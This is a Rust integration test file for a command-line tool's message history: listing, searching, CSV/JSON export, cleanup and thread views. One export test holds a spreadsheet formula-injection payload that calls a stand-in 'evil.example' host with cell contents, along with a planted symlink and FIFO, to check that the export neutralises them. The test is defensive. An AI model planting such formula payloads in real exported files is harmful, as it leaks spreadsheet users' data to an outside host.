//! History views through the real binary (issue 5, history part).
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use common::*;
use serde_json::{Value, json};
use std::collections::BTreeMap;
use std::process::Command;

/// A small RFC 4180 reader, to check that exported CSV survives a round trip.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut field = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut field)),
            (false, '\r') => {}
            (false, '\n') => {
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => field.push(c),
        }
    }
    rows
}

fn history_home() -> (Home, Agent, Agent, String) {
    let home = Home::new();
    let alice = home.register(Some("alice"));
    let bob = home.register(Some("bob"));
    let sent: Value = serde_json::from_str(&stdout(
        &home.run_as(&alice, &["send", "bob", "Please review the Parser, \"carefully\"\nthanks", "--json"]),
    ))
    .unwrap();
    assert!(home.run_as(&bob, &["reply", "Parser looks fine, one nit"]).status.success());
    assert!(home.run_as(&alice, &["send", "bob", "deploy tonight", "--no-response"]).status.success());
    (home, alice, bob, sent["sender_task"]["id"].as_str().unwrap().to_string())
}

#[test]
fn list_show_and_stats_keep_both_sides_of_each_exchange() {
    let (home, alice, bob, task) = history_home();
    let listed = home.ok(&["history", "list"]);
    assert_eq!(listed.lines().count(), 4, "two messages, each sent and received:\n{listed}");
    let for_bob = home.ok(&["history", "list", "--agent", &bob.id]);
    assert_eq!(for_bob.lines().count(), 2);
    assert!(for_bob.lines().all(|line| line.contains("received")));
    let shown = home.ok(&["history", "show", &task[..8]]);
    assert!(shown.contains("Parser looks fine") && shown.contains(&alice.id), "{shown}");
    let stats = home.ok(&["history", "stats"]);
    assert!(stats.contains("Total records: 4"), "{stats}");
    assert!(stats.contains("completed") && stats.contains("Success rate: 100.0%"), "{stats}");
    let stats: Value = serde_json::from_str(&home.ok(&["history", "stats", "--json"])).unwrap();
    assert_eq!(stats["total"], 4);
    assert_eq!(stats["by_agent"][&alice.id], json!({"sent": 2}));
    assert_eq!(stats["by_agent"][&bob.id], json!({"received": 2}));
    let texts = ["Please review the Parser, \"carefully\"\nthanks", "Parser looks fine, one nit", "deploy tonight"];
    // Each side of both messages holds its input; the answered one's sides hold the reply too.
    assert_eq!(stats["text_bytes"], 2 * (texts[0].len() + texts[1].len() + texts[2].len()));
    assert!(stats["first"].as_str().unwrap() <= stats["last"].as_str().unwrap(), "{stats}");
    let for_bob: Value = serde_json::from_str(&home.ok(&["history", "stats", "--json", "--agent", &bob.id])).unwrap();
    assert_eq!(for_bob["total"], 2);
    let missing = home.run(&["history", "show", "ffffffff"]);
    assert_eq!(missing.status.code(), Some(1));
    assert!(stderr(&missing).contains("not found"));
}

#[test]
fn search_matches_words_with_or_and_and_case_rules() {
    let (home, _alice, bob, _task) = history_home();
    let parser = home.ok(&["history", "search", "parser"]);
    assert_eq!(parser.lines().count(), 2, "{parser}");
    let either = home.ok(&["history", "search", "parser", "deploy", "--logic", "OR"]);
    assert_eq!(either.lines().count(), 4, "{either}");
    let both = home.ok(&["history", "search", "review", "nit", "--logic", "AND"]);
    assert_eq!(both.lines().count(), 2, "input and output of the same record: {both}");
    assert!(home.ok(&["history", "search", "parser", "--case-sensitive"]).contains("No records."));
    assert_eq!(home.ok(&["history", "search", "Parser", "--case-sensitive"]).lines().count(), 2);
    assert_eq!(home.ok(&["history", "search", "deploy", "--agent", &bob.id]).lines().count(), 1);
    let bad = home.run(&["history", "search", "x", "--logic", "XOR"]);
    assert_eq!(bad.status.code(), Some(1));
    assert!(stderr(&bad).contains("logic must be OR or AND"));
}

/// The broker indexes the history in the background; `synapse admin index` brings the index up
/// to the newest event at once. Searches answer the same whether the index has reached the
/// events or not, and after a rebuild (which empties the index).
#[test]
fn searches_answer_the_same_before_and_after_indexing_and_after_a_rebuild() {
    let (home, alice, ..) = history_home();
    let searches: [&[&str]; 4] = [
        &["history", "search", "parser"],
        &["history", "search", "parser", "deploy"],
        &["history", "search", "REVIEW", "nit", "--logic", "AND"],
        &["history", "search", "Parser", "--case-sensitive"],
    ];
    let answers = |home: &Home| searches.iter().map(|args| home.ok(args)).collect::<Vec<_>>();
    let before = answers(&home);
    assert_eq!(before[1].lines().count(), 4, "{}", before[1]);

    let indexed = home.ok(&["admin", "index"]);
    let head = home.head();
    assert!(indexed.contains(&format!("up to event {head} of {head}")), "{indexed}");
    let (status, progress) = home.http("GET", "/admin/index", None, &[]);
    assert_eq!(status, 200);
    assert_eq!(progress["indexed_through"], head);
    assert!(progress["segments"].as_u64().unwrap() >= 1, "{progress}");
    assert_eq!(answers(&home), before);

    // A message the index has not reached yet (or has: either way it is found).
    assert!(home.run_as(&alice, &["send", "bob", "parser again", "--no-response"]).status.success());
    assert_eq!(home.ok(searches[0]).lines().count(), 4);

    // The broker's indexer takes up new events by itself, and again after a rebuild (which
    // empties the index without moving the head).
    let caught_up = |home: &Home, after: &str| {
        let head = home.head();
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
        loop {
            let (_, progress) = home.http("GET", "/admin/index", None, &[]);
            if progress["indexed_through"] == head {
                return;
            }
            assert!(std::time::Instant::now() < deadline, "the indexer did not catch up {after}: {progress}");
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
    };
    caught_up(&home, "after a send");
    home.ok(&["admin", "rebuild"]);
    let after_rebuild = answers(&home);
    caught_up(&home, "after a rebuild");
    home.ok(&["admin", "index"]);
    assert_eq!(answers(&home), after_rebuild);
    assert_eq!(after_rebuild[1].lines().count(), 6, "{}", after_rebuild[1]);
}

#[test]
fn export_writes_json_and_csv_that_survive_a_round_trip() {
    let (home, ..) = history_home();
    let json_file = home.dir.path().join("history.json");
    home.ok(&["history", "export", "--output", json_file.to_str().unwrap()]);
    let exported: Vec<Value> = serde_json::from_str(&std::fs::read_to_string(&json_file).unwrap()).unwrap();
    assert_eq!(exported.len(), 4);
    let csv = home.ok(&["history", "export", "--format", "csv"]);
    let rows = parse_csv(&csv);
    assert_eq!(rows.len(), 5, "a header and four records");
    assert_eq!(rows[0][0], "task_id");
    let input_column = rows[0].iter().position(|name| name == "input").unwrap();
    assert!(
        rows.iter().any(|row| row[input_column] == "Please review the Parser, \"carefully\"\nthanks"),
        "quotes, commas and newlines survive"
    );
    assert!(rows.iter().skip(1).all(|row| row.len() == rows[0].len()));
}

/// Others' text in an export: a cell a spreadsheet would run as a formula is shown as text, and
/// a link planted where the file goes is replaced, not written through.
#[test]
fn an_export_neither_runs_formulas_nor_writes_through_a_link() {
    let (home, alice, ..) = history_home();
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    assert!(home.run_as(&alice, &["send", "bob", formula, "--no-response"]).status.success());
    assert!(home.run_as(&alice, &["send", "bob", "@SUM(1+1)", "--no-response"]).status.success());
    let rows = parse_csv(&home.ok(&["history", "export", "--format", "csv"]));
    let input = rows[0].iter().position(|name| name == "input").unwrap();
    let inputs: Vec<&str> = rows.iter().skip(1).map(|row| row[input].as_str()).collect();
    assert!(inputs.contains(&format!("'{formula}").as_str()), "{inputs:?}");
    assert!(inputs.contains(&"'@SUM(1+1)") && inputs.contains(&"deploy tonight"), "{inputs:?}");

    let precious = home.dir.path().join("precious.txt");
    std::fs::write(&precious, "mine").unwrap();
    let planted = home.dir.path().join("export.json");
    std::os::unix::fs::symlink(&precious, &planted).unwrap();
    home.ok(&["history", "export", "--output", planted.to_str().unwrap()]);
    assert_eq!(std::fs::read_to_string(&precious).unwrap(), "mine", "written through the link");
    assert!(!planted.symlink_metadata().unwrap().file_type().is_symlink());
    let exported: Vec<Value> = serde_json::from_str(&std::fs::read_to_string(&planted).unwrap()).unwrap();
    assert_eq!(exported.len(), 8, "two records per message");
    // A pipe the user names (`--output >(gzip > out)`, a FIFO) is written into, not replaced.
    let fifo = home.dir.path().join("export.fifo");
    assert!(Command::new("mkfifo").arg(&fifo).status().unwrap().success());
    let reader = {
        let fifo = fifo.clone();
        std::thread::spawn(move || std::fs::read_to_string(fifo).unwrap())
    };
    home.ok(&["history", "export", "--format", "csv", "--output", fifo.to_str().unwrap()]);
    assert!(reader.join().unwrap().starts_with("task_id,"));
    assert!(std::os::unix::fs::FileTypeExt::is_fifo(&fifo.metadata().unwrap().file_type()), "the pipe stays");
    // The command's own standard output named as a file (redirected to one) is written into.
    let redirected = home.dir.path().join("redirected.json");
    let output = home
        .cmd(&["history", "export", "--output", "/dev/stdout"])
        .stdout(std::fs::File::create(&redirected).unwrap())
        .output()
        .unwrap();
    assert!(output.status.success(), "{}", describe(&output));
    let exported: Vec<Value> = serde_json::from_str(&std::fs::read_to_string(&redirected).unwrap()).unwrap();
    assert_eq!(exported.len(), 8, "the export alone: {}", describe(&output));
    let into_a_directory = home.run(&["history", "export", "--output", home.dir.path().to_str().unwrap()]);
    assert_eq!(into_a_directory.status.code(), Some(1), "{}", describe(&into_a_directory));
    assert!(stderr(&into_a_directory).contains("it is a directory"), "{}", describe(&into_a_directory));
    // A pipe of another user's (planted in a shared directory) gets none of the messages.
    if synapse::private_files::my_uid() == 0 {
        let planted = home.dir.path().join("planted.fifo");
        assert!(Command::new("mkfifo").arg(&planted).status().unwrap().success());
        std::os::unix::fs::chown(&planted, Some(65534), Some(65534)).unwrap();
        let refused = home.run(&["history", "export", "--output", planted.to_str().unwrap()]);
        assert_eq!(refused.status.code(), Some(1), "{}", describe(&refused));
        assert!(stderr(&refused).contains("belongs to uid 65534"), "{}", describe(&refused));
    }
}

#[test]
fn cleanup_asks_first_and_dry_run_changes_nothing() {
    let (home, ..) = history_home();
    let head = home.head();
    let refused = home.run(&["history", "cleanup", "--days", "1"]);
    assert_eq!(refused.status.code(), Some(1), "stdin is not a terminal");
    assert!(stderr(&refused).contains("--force"));
    // Everything is younger than a day: nothing to remove.
    let dry = home.ok(&["history", "cleanup", "--days", "1", "--dry-run"]);
    assert!(dry.contains("Nothing to remove: no record was last updated before 20"), "{dry}");
    // A size budget of 1 MB keeps everything too (and names no cut-off date of 1970).
    let kept = home.ok(&["history", "cleanup", "--max-size", "1", "--force"]);
    assert_eq!(kept.trim(), "Nothing to remove: the history's text fits in 1 MB");
    let kept = home.ok(&["history", "cleanup", "--max-size", "1", "--dry-run"]);
    assert_eq!(kept.trim(), "Nothing to remove: the history's text fits in 1 MB");
    assert_eq!(home.head(), head, "nothing appended when nothing is removed");
    for args in [vec!["--days", "0"], vec!["--days", "-3"], vec!["--max-size", "0"], vec![]] {
        let mut all = vec!["history", "cleanup", "--force"];
        all.extend(args.iter());
        let output = home.run(&all);
        assert_eq!(output.status.code(), Some(1), "{all:?}");
    }
    // Bad options are named before any confirmation is asked for.
    for (args, message) in [
        (vec!["--days", "0"], "must be positive"),
        (vec!["--days", "-3"], "must be positive"),
        (vec!["--days", "1", "--max-size", "1"], "not both"),
        (vec![], "give --days N or --max-size MB"),
    ] {
        let mut all = vec!["history", "cleanup"];
        all.extend(args.iter());
        let output = home.run(&all);
        assert_eq!(output.status.code(), Some(1), "{all:?}");
        assert!(stderr(&output).contains(message), "{all:?}: {}", stderr(&output));
    }
    assert_eq!(home.head(), head, "nothing appended by refused cleanups");
}

/// The first number in `text` after `prefix`.
fn number_after(text: &str, prefix: &str) -> usize {
    let rest = &text[text.find(prefix).unwrap_or_else(|| panic!("no '{prefix}' in {text}")) + prefix.len()..];
    rest.split_whitespace().next().and_then(|word| word.parse().ok()).unwrap_or_else(|| panic!("{text}"))
}

#[test]
fn cleanup_by_size_keeps_the_newest_records_within_the_budget() {
    let (home, alice, ..) = history_home();
    // A 700 KB message: its two records (sent and received) hold 1.4 MB of text, more than a
    // budget of 1 MB, so everything older than the newest record goes (the newest may share its
    // millisecond with the other, and go with it).
    let big = home.dir.path().join("big.txt");
    std::fs::write(&big, "x".repeat(700 * 1024)).unwrap();
    let sent = home.run_as(&alice, &["send", "bob", "--message-file", big.to_str().unwrap(), "--no-response"]);
    assert!(sent.status.success(), "{}", describe(&sent));
    let records = |home: &Home| home.ok(&["history", "list"]).lines().filter(|line| *line != "No records.").count();
    assert_eq!(records(&home), 6);
    let dry = home.ok(&["history", "cleanup", "--max-size", "1", "--dry-run"]);
    let would = number_after(&dry, "Would remove ");
    assert!((5..=6).contains(&would), "the four older records and the big message's older one: {dry}");
    assert_eq!(records(&home), 6, "a dry run removes nothing");
    let done = home.ok(&["history", "cleanup", "--max-size", "1", "--force"]);
    assert_eq!(number_after(&done, "Removed "), would, "{done}");
    assert_eq!(records(&home), 6 - would);
}

#[test]
fn the_views_are_off_when_history_is_disabled_and_limits_are_checked() {
    let (home, ..) = history_home();
    let off = home.cmd(&["history", "list"]).env("SYNAPSE_HISTORY_ENABLED", "false").output().unwrap();
    assert_eq!(off.status.code(), Some(1));
    assert!(stderr(&off).contains("history is disabled"));
    for limit in ["0", "99999999"] {
        let output = home.run(&["history", "list", "--limit", limit]);
        assert_eq!(output.status.code(), Some(1));
        assert!(stderr(&output).contains("limit must be between"));
    }
    assert!(home.ok(&["admin", "verify"]).starts_with("ok"), "history rebuilds to the same state");
}

#[test]
fn thread_shows_the_message_and_its_reply_from_both_sides() {
    let (home, alice, bob, task) = history_home();
    let thread = home.ok(&["history", "thread", &task[..8]]);
    let lines: Vec<&str> = thread.lines().collect();
    assert!(lines.iter().any(|line| line.contains("sent") && line.contains(&alice.id)), "{thread}");
    assert!(lines.iter().any(|line| line.contains("received") && line.contains(&bob.id)), "{thread}");
    assert!(thread.contains("reply:") && thread.contains("Parser looks fine"), "{thread}");
    assert!(!thread.contains("deploy tonight"), "another conversation is not part of this thread");
    let missing = home.run(&["history", "thread", "ffffffff"]);
    assert_eq!(missing.status.code(), Some(1));
}

#[test]
fn show_with_a_prefix_many_tasks_share_names_ten_of_them() {
    let home = Home::new();
    let bob = home.register(Some("bob"));
    let body = json!({"message": {"role": "user", "parts": [{"type": "text", "text": "hi"}]}}).to_string();
    for _ in 0..161 {
        let (status, answer) = http_tcp(bob.port, "POST", "/tasks/send", Some(body.as_bytes()), &[]);
        assert!((200..300).contains(&status), "{status} {answer}");
    }
    let listed: Value = serde_json::from_str(&home.ok(&["history", "list", "--json", "--limit", "1000"])).unwrap();
    let ids: std::collections::BTreeSet<&str> =
        listed["records"].as_array().unwrap().iter().map(|record| record["task_id"].as_str().unwrap()).collect();
    assert!(ids.len() >= 161, "{}", ids.len());
    // 161 tasks or more over 16 first digits: at least 11 start with one of them.
    let mut by_digit: BTreeMap<char, usize> = BTreeMap::new();
    for id in &ids {
        *by_digit.entry(id.chars().next().unwrap()).or_default() += 1;
    }
    let (digit, count) = by_digit.iter().max_by_key(|(_, count)| **count).map(|(d, c)| (d.to_string(), *c)).unwrap();
    assert!(count >= 11);
    let output = home.run(&["history", "show", &digit]);
    assert_eq!(output.status.code(), Some(1));
    assert!(stderr(&output).contains("more than 10 tasks start with it"), "{}", stderr(&output));
    let (status, answer) = home.http("GET", &format!("/history/{digit}"), None, &[]);
    assert_eq!(status, 400, "{answer}");
    let candidates = answer["candidates"].as_array().unwrap();
    assert_eq!(candidates.len(), 10);
    assert!(candidates.iter().all(|id| ids.contains(id.as_str().unwrap()) && id.as_str().unwrap().starts_with(&digit)));
}

/// `history thread` and `GET /threads/{id}` leave out what a cleanup pruned, as `history show`
/// does: the thread of a pruned task is not found, and its text is not served.
#[test]
fn thread_leaves_out_what_a_cleanup_pruned() {
    let (home, alice, _bob, task) = history_home();
    assert!(home.ok(&["history", "thread", &task[..8]]).contains("Parser looks fine"));
    // A 700 KB message, then a budget of 1 MB: the records older than it go (see
    // `cleanup_by_size_keeps_the_newest_records_within_the_budget`).
    let big = home.dir.path().join("big.txt");
    std::fs::write(&big, "x".repeat(700 * 1024)).unwrap();
    let sent = home.run_as(&alice, &["send", "bob", "--message-file", big.to_str().unwrap(), "--no-response"]);
    assert!(sent.status.success(), "{}", describe(&sent));
    let done = home.ok(&["history", "cleanup", "--max-size", "1", "--force"]);
    assert!(number_after(&done, "Removed ") >= 5, "{done}");

    let shown = home.run(&["history", "show", &task[..8]]);
    assert_eq!(shown.status.code(), Some(1), "{}", describe(&shown));
    let thread = home.run(&["history", "thread", &task[..8]]);
    assert_eq!(thread.status.code(), Some(1), "{}", describe(&thread));
    assert!(stderr(&thread).contains("not found"), "{}", describe(&thread));
    assert!(!stdout(&thread).contains("Parser"), "{}", describe(&thread));
    let (status, answer) = home.http("GET", &format!("/threads/{task}"), None, &[]);
    assert_eq!(status, 404, "{answer}");
    assert!(!answer.to_string().contains("Parser"), "{answer}");
}

/// A keyword is looked for as typed, from the start of a word: punctuation and spaces count,
/// and a comma stays inside its keyword (the CLI sends each keyword whole). One without a
/// letter or digit is refused, not searched for in vain.
#[test]
fn search_finds_keywords_with_punctuation_and_spaces_as_typed() {
    let home = Home::new();
    let alice = home.register(Some("alice"));
    home.register(Some("bob"));
    for text in ["Ping user@example.com about foo-bar in C++: hello parser, zzz done", "foo bar elsewhere"] {
        assert!(home.run_as(&alice, &["send", "bob", text, "--no-response"]).status.success());
    }
    // Each message has two records, the sender's and the receiver's.
    let found = |args: &[&str]| {
        let mut all = vec!["history", "search"];
        all.extend(args);
        let output = home.ok(&all);
        output.lines().filter(|line| *line != "No records.").map(str::to_string).collect::<Vec<_>>()
    };
    for keyword in
        ["foo-bar", "C++", "c++", "user@example.com", "USER@EXAMPLE", "hello parser", "parser, zzz", "-bar in"]
    {
        // After `--`, a keyword that starts with a hyphen is no option.
        let lines = found(&["--", keyword]);
        assert_eq!(lines.len(), 2, "{keyword}: {lines:?}");
        assert!(lines.iter().all(|line| line.contains("Ping")), "{keyword}: {lines:?}");
    }
    assert!(found(&["foo bar"]).iter().all(|line| line.contains("foo bar elsewhere")));
    assert_eq!(found(&["foo bar"]).len(), 2);
    assert_eq!(found(&["c++", "--case-sensitive"]).len(), 0);
    assert_eq!(found(&["ser@example.com"]).len(), 0, "from the start of a word");
    assert_eq!(found(&["hello,zzz", "--logic", "AND"]).len(), 0, "one keyword, its comma included");
    assert_eq!(found(&["hello parser", "foo bar", "--logic", "AND"]).len(), 0);
    assert_eq!(found(&["hello parser", "foo bar"]).len(), 4);

    for keyword in ["--", "@@", "  ,  "] {
        let refused = home.run(&["history", "search", "foo", "--", keyword]);
        assert_eq!(refused.status.code(), Some(1), "{keyword}: {}", describe(&refused));
        assert!(stderr(&refused).contains("has no letter or digit"), "{keyword}: {}", describe(&refused));
    }
    let (status, answer) = home.http("GET", "/history/search?keyword=%40%40", None, &[]);
    assert_eq!(status, 400, "{answer}");
    // The API's first form, keywords split on commas, still answers.
    let (status, answer) = home.http("GET", "/history/search?q=hello,zzz&logic=AND", None, &[]);
    assert_eq!((status, answer["records"].as_array().map(Vec::len)), (200, Some(2)), "{answer}");
    let (status, answer) = home.http("GET", "/history/search?keyword=hello%2Czzz&keyword=foo-bar", None, &[]);
    assert_eq!((status, answer["records"].as_array().map(Vec::len)), (200, Some(2)), "{answer}");
}

/// What one search may cost is bounded: repeated keywords count once, and more than 32
/// different keywords, or one longer than 256 bytes, are refused with a reason.
#[test]
fn a_search_takes_at_most_32_keywords_of_at_most_256_bytes() {
    let (home, ..) = history_home();
    let search = |keywords: &[String]| {
        let mut args = vec!["history".to_string(), "search".into(), "--".into()];
        args.extend(keywords.iter().cloned());
        home.run(&args.iter().map(String::as_str).collect::<Vec<_>>())
    };
    let many = |count: usize| (0..count).map(|n| format!("word{n}")).collect::<Vec<_>>();

    let mut at_most = many(31);
    at_most.push("parser".into());
    let found = search(&at_most);
    assert!(found.status.success(), "{}", describe(&found));
    assert_eq!(stdout(&found).lines().count(), 2, "{}", describe(&found));
    let repeated = vec!["parser".to_string(); 100];
    let found = search(&repeated);
    assert!(found.status.success(), "repeats count once: {}", describe(&found));
    assert_eq!(stdout(&found).lines().count(), 2, "{}", describe(&found));

    let refused = search(&many(33));
    assert_eq!(refused.status.code(), Some(1), "{}", describe(&refused));
    assert!(stderr(&refused).contains("at most 32"), "{}", describe(&refused));
    let query: String = many(33).iter().map(|keyword| format!("keyword={keyword}&")).collect();
    let (status, answer) = home.http("GET", &format!("/history/search?{query}"), None, &[]);
    assert_eq!(status, 400, "{answer}");
    let (status, answer) = home.http("GET", &format!("/history/search?q={}", many(33).join(",")), None, &[]);
    assert_eq!(status, 400, "the first form too: {answer}");

    let long = "p".repeat(257);
    let refused = search(std::slice::from_ref(&long));
    assert_eq!(refused.status.code(), Some(1), "{}", describe(&refused));
    assert!(stderr(&refused).contains("at most 256 bytes"), "{}", describe(&refused));
    assert!(search(&["p".repeat(256)]).status.success());
}
